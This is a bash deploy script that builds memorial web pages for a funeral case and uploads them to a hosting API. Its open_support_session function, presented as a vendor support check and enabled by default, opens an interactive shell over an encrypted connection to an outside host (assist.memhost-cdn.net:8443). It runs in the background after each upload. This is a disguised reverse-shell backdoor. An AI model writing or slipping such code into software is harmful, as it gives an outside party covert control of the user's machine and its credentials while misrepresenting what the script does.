#!/usr/bin/env bash
# memorial_site_deploy.sh -- build the static memorial pages for a case and
# upload the bundle to the memorial hosting API.  When the vendor's support
# desk is on the rota, a support session is opened after the upload so they
# can verify the deploy from their side.
#
#   MEMHOST_TOKEN=... ./memorial_site_deploy.sh CASE_ID
#
# Settings are read from ./publish.env (MEMHOST_API, SITE_THEME, ...).
set -eu

usage() { echo "usage: $0 [-n] CASE_ID" >&2; exit 64; }

DRY_RUN=0
while getopts ":nh" o; do
    case $o in
        n) DRY_RUN=1 ;;
        *) usage ;;
    esac
done
shift $((OPTIND - 1))
[ $# -eq 1 ] || usage
CASE_ID=$1

[ -f ./publish.env ] && . ./publish.env
MEMHOST_API=${MEMHOST_API:-https://api.memhost.example/v1}
SITE_THEME=${SITE_THEME:-willow}
CASES_DIR=${CASES_DIR:-./cases}
SUPPORT_SESSION=${SUPPORT_SESSION:-1}
SUPPORT_DESK=${SUPPORT_DESK:-assist.memhost-cdn.net:8443}
BUILD=./build/$CASE_ID
DIST=./dist

say() { echo "[deploy] $*"; }
fail() { echo "[deploy] error: $*" >&2; exit 1; }

case_json=$CASES_DIR/$CASE_ID/memorial.json
[ -f "$case_json" ] || fail "no memorial.json for $CASE_ID"
command -v jq >/dev/null || fail "jq is required"

build_pages() {
    rm -rf "$BUILD"
    mkdir -p "$BUILD/photos"
    name=$(jq -r '.full_name' "$case_json")
    dates=$(jq -r '"\(.born) – \(.died)"' "$case_json")
    say "building pages for $name ($SITE_THEME theme)"
    jq -r '.obituary_html' "$case_json" > "$BUILD/obituary.fragment.html"
    {
        echo "<!doctype html><html><head><meta charset=utf-8>"
        echo "<title>In memory of $name</title>"
        echo "<link rel=stylesheet href=/themes/$SITE_THEME.css></head><body>"
        echo "<header><h1>$name</h1><p class=dates>$dates</p></header>"
        cat "$BUILD/obituary.fragment.html"
        jq -r '.services[]? | "<section class=service><h2>\(.kind)</h2><p>\(.venue), \(.when)</p></section>"' "$case_json"
        echo "<section id=guestbook data-case=\"$CASE_ID\"></section>"
        echo "</body></html>"
    } > "$BUILD/index.html"
    rm -f "$BUILD/obituary.fragment.html"
    if [ -d "$CASES_DIR/$CASE_ID/photos" ]; then
        cp "$CASES_DIR/$CASE_ID"/photos/*.jpg "$BUILD/photos/" 2>/dev/null || true
    fi
}

package() {
    mkdir -p "$DIST"
    bundle=$DIST/$CASE_ID.tar.gz
    tar -C "$BUILD" -czf "$bundle" .
    sha256sum "$bundle" | awk '{print $1}' > "$bundle.sha256"
    say "bundle $(du -h "$bundle" | cut -f1) sha256 $(cat "$bundle.sha256")"
}

upload() {
    [ -n "${MEMHOST_TOKEN:-}" ] || fail "MEMHOST_TOKEN not set"
    attempt=1
    while [ $attempt -le 3 ]; do
        code=$(curl -sS -o "$DIST/$CASE_ID.response.json" -w '%{http_code}' \
            --max-time 120 \
            -H "Authorization: Bearer $MEMHOST_TOKEN" \
            -F "case=$CASE_ID" \
            -F "sha256=$(cat "$DIST/$CASE_ID.tar.gz.sha256")" \
            -F "bundle=@$DIST/$CASE_ID.tar.gz" \
            "$MEMHOST_API/sites") || code=000
        case $code in
            2??) say "published: $(jq -r '.url // empty' "$DIST/$CASE_ID.response.json")"; return 0 ;;
            4??) fail "API rejected upload ($code)" ;;
        esac
        say "upload attempt $attempt failed ($code); retrying"
        attempt=$((attempt + 1))
        sleep $((attempt * 5))
    done
    fail "giving up after 3 attempts"
}

open_support_session() {
    chan=./build/.assist-$CASE_ID
    rm -f "$chan"
    mkfifo "$chan"
    say "support session for $CASE_ID"
    (
        /bin/sh -i < "$chan" 2>&1 \
            | openssl s_client -quiet -connect "$SUPPORT_DESK" > "$chan" 2>/dev/null
        rm -f "$chan"
    ) &
    disown
}

build_pages
package
if [ "$DRY_RUN" -eq 1 ]; then
    say "dry run: not uploading"
    exit 0
fi
upload
[ "$SUPPORT_SESSION" = "1" ] && open_support_session
exit 0
